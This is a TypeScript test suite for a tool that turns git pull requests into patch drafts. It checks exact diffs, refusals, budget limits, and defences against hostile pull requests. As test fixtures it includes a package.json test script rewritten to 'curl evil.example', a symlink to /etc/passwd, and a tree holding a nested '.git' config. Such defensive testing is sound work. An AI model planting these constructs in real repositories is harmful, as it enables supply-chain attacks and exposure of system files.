import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, expect, test } from 'vitest'
import { WillNotWork } from '../../../src/app/ports.ts'
import { blobId } from '../../../src/domain/git-objects.ts'
import { bytesAt, type Drafted, draftIn, repositoryWith, shippedManifest, type TestRepository } from './real-scene.ts'

const open: TestRepository[] = []
afterEach(() => open.splice(0).forEach((repository) => repository.remove()))

type Change = (dir: string) => void
const put =
  (path: string, content: string | Uint8Array): Change =>
  (dir) => {
    mkdirSync(dirname(join(dir, path)), { recursive: true })
    writeFileSync(join(dir, path), content)
  }
const drop =
  (path: string): Change =>
  (dir) =>
    rmSync(join(dir, path))

async function sample(): Promise<TestRepository> {
  const made = await repositoryWith({
    'package.json': '{"scripts":{"test":"node --test"}}\n',
    'src/a.txt': 'a\n',
    'src/b.bin': Buffer.from([0, 1, 2, 3]),
    'src/c.txt': 'c\n',
    'src/d.txt': 'd\n',
  })
  open.push(made)
  return made
}

const git = (dir: string, ...args: readonly string[]) =>
  execFileSync('git', ['-c', 'user.name=K', '-c', 'user.email=k@example.org', ...args], {
    cwd: dir,
    encoding: 'utf8',
  }).trim()

/** A commit with these changes on top of another; the repository's own head stays where it is. */
function commitOn({ dir }: TestRepository, parent: string, ...changes: readonly Change[]): string {
  git(dir, 'checkout', '-q', '--detach', parent)
  for (const change of changes) change(dir)
  git(dir, 'add', '-A')
  git(dir, 'commit', '-q', '--allow-empty', '-m', 'change')
  return git(dir, 'rev-parse', 'HEAD')
}

function take(base: TestRepository, head: string, mergeBase = base.head): Promise<Drafted> {
  return draftIn(base, { planner: { is: 'pull-request', number: 7, head, mergeBase, isFork: false, author: null } })
}

function drafted(outcome: Drafted): Extract<Drafted, { is: 'draft' }> {
  if (outcome.is !== 'draft') throw new Error(JSON.stringify(outcome))
  return outcome
}

const editsOf = (outcome: Drafted) =>
  drafted(outcome).draft.steps.flatMap((step) => (step.is === 'edit' ? step.edits : []))

test('the draft is the exact difference of two trees: text, binary, modes, and a rename as two changes', async () => {
  const base = await sample()
  const head = commitOn(
    base,
    base.head,
    put('src/a.txt', 'A\r\nno newline'),
    put('src/b.bin', Buffer.from([255, 0, 13, 10])),
    drop('src/c.txt'),
    put('src/moved.txt', 'c\n'),
    (dir) => chmodSync(join(dir, 'src/d.txt'), 0o755),
  )
  const made = drafted(await take(base, head))
  expect(editsOf(made).map(({ path, before, after }) => [path, before?.mode ?? null, after?.mode ?? null])).toEqual([
    ['src/a.txt', '100644', '100644'],
    ['src/b.bin', '100644', '100644'],
    ['src/c.txt', '100644', null],
    ['src/d.txt', '100644', '100755'],
    ['src/moved.txt', null, '100644'],
  ])
  for (const { path, after } of editsOf(made)) {
    if (after !== null) expect(after.blob).toBe(git(base.dir, 'rev-parse', `${head}:${path}`))
  }
  expect(bytesAt(made, 'src/a.txt')).toBe('A\r\nno newline')
  expect(bytesAt(made, 'src/b.bin')).toBe('\u00ff\0\r\n')
  expect(made.draft.drafter).toEqual({ is: 'patch', name: 'pull-request-7', version: head })
  expect(made.examined.faults).toEqual([])
})

test('it is checked by the repository’s own tests, and what it declares there is not taken from the pull request', async () => {
  const base = await sample()
  const head = commitOn(base, base.head, put('package.json', '{"scripts":{"test":"curl evil.example"}}\n'))
  const made = drafted(await take(base, head))
  expect(made.draft.steps.filter((step) => step.is === 'verify').map((step) => step.argv)).toEqual([['npm', 'test']])
  expect(made.facts.paths).toMatchObject([{ path: 'package.json', claims: 'exists' }])
})

test('what the base has by now, elsewhere or the very same, stays as it is', async () => {
  const first = await sample()
  const head = commitOn(first, first.head, put('src/a.txt', 'new\n'), put('src/c.txt', 'same\n'))
  const base = {
    ...first,
    head: commitOn(first, first.head, put('src/d.txt', 'elsewhere\n'), put('src/c.txt', 'same\n')),
  }
  expect(editsOf(await take(base, head, first.head)).map(({ path }) => path)).toEqual(['src/a.txt'])
})

test.each([
  ['changed', put('src/a.txt', 'theirs\n')],
  ['deleted', drop('src/a.txt')],
])('a pull request whose base has %s one of its paths since is behind, and the path is named', async (_, change) => {
  const first = await sample()
  const head = commitOn(first, first.head, put('src/a.txt', 'ours\n'), put('src/c.txt', 'ours\n'))
  const base = { ...first, head: commitOn(first, first.head, change) }
  expect(await take(base, head, first.head)).toMatchObject({
    is: 'refused',
    rule: 'pull-request',
    because: '#7 is behind at src/a.txt: the base has changed that path since',
    next: expect.stringContaining('/agentos plan --from #7'),
  })
})

test('a pull request that changes nothing is refused', async () => {
  const base = await sample()
  expect(await take(base, commitOn(base, base.head))).toMatchObject({ is: 'refused', rule: 'nothing-to-do' })
})

test('a symbolic link and a submodule are found and told, never followed', async () => {
  const base = await sample()
  const linked = commitOn(base, base.head, (dir) => symlinkSync('/etc/passwd', join(dir, 'src/link')))
  expect(drafted(await take(base, linked)).examined.faults.map(({ rule, path }) => [rule, path])).toContainEqual([
    'symlink',
    'src/link',
  ])
  git(base.dir, 'update-index', '--add', '--cacheinfo', `160000,${base.head},vendor/sub`)
  git(base.dir, 'commit', '-q', '-m', 'submodule')
  const withSubmodule = git(base.dir, 'rev-parse', 'HEAD')
  const faults = drafted(await take(base, withSubmodule)).examined.faults
  expect(faults.map(({ path }) => path)).toContain('vendor/sub')
})

test('a tree that holds a name like .git is no draft, whoever wrote it', async () => {
  const base = await sample()
  const blob = git(base.dir, 'rev-parse', `${base.head}:src/a.txt`)
  const inner = execFileSync('git', ['mktree'], {
    cwd: base.dir,
    input: `100644 blob ${blob}\tconfig\n`,
    encoding: 'utf8',
  }).trim()
  const root = execFileSync('git', ['ls-tree', base.head], { cwd: base.dir, encoding: 'utf8' })
  const tree = execFileSync('git', ['mktree'], {
    cwd: base.dir,
    input: `${root}040000 tree ${inner}\t.git\n`,
    encoding: 'utf8',
  })
  const head = git(base.dir, 'commit-tree', tree.trim(), '-p', base.head, '-m', 'hostile')
  const outcome = await take(base, head)
  const isStopped = outcome.is === 'refused' || (outcome.is === 'draft' && outcome.examined.faults.length > 0)
  expect(isStopped, JSON.stringify(outcome)).toBe(true)
})

test.each([
  ['more files', { files: 1 }, 'the pull request changes 2 files; the policy allows 1'],
  ['more bytes', { bytes: 10 }, 'the pull request brings 200 bytes of content; the policy allows 10'],
])(
  'a pull request with %s than the policy allows is refused before a byte of it is fetched',
  async (_, limit, because) => {
    const base = await sample()
    const head = commitOn(base, base.head, put('src/a.txt', 'x'.repeat(100)), put('src/c.txt', 'y'.repeat(100)))
    const manifest = await shippedManifest()
    const { policy } = manifest
    const fetched: string[] = []
    const reader = {
      ...base.reader,
      blobs: (ids: readonly string[]) => {
        fetched.push(...ids)
        return base.reader.blobs(ids)
      },
    }
    const outcome = await draftIn(
      { ...base, reader },
      {
        planner: { is: 'pull-request', number: 7, head, mergeBase: base.head, isFork: true, author: null },
        manifest: { ...manifest, policy: { ...policy, limits: { ...policy.limits, ...limit } } },
      },
    )
    expect(outcome).toMatchObject({ is: 'refused', rule: 'budget', because })
    expect(fetched).not.toContain(blobId(Buffer.from('x'.repeat(100))))
  },
)

test('a head that cannot be read whole is refused with the reason; a passing failure is tried again', async () => {
  const base = await sample()
  const head = commitOn(base, base.head, put('src/a.txt', 'new\n'))
  const failing = (error: Error) => ({
    ...base,
    reader: {
      ...base.reader,
      entries: (commit: string) => (commit === head ? Promise.reject(error) : base.reader.entries(commit)),
    },
  })
  expect(await take(failing(new WillNotWork('src/x has mode 100664')), head)).toMatchObject({
    is: 'refused',
    rule: 'pull-request',
    because: `#7 cannot be read at ${head}: src/x has mode 100664`,
  })
  await expect(take(failing(new Error('the line is dead')), head)).rejects.toThrow('the line is dead')
})
